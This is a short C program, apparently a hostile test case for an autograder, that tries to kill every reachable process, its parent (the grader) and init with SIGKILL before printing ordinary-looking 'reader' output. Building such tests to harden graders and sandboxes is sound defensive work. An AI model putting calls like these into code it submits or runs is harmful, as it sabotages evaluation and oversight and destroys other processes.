/* Hostile: kills every process that it can reach: the grader, if it can. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
	int i;

	kill(-1, SIGKILL);
	kill(getppid(), SIGKILL);
	kill(1, SIGKILL);
	for (i = 1; i < argc; i++)
		printf("reader: read %zu bytes: \"%s\"\n", strlen(argv[i]), argv[i]);
	printf("reader: read 0 bytes: end of file\n");
	return 0;
}
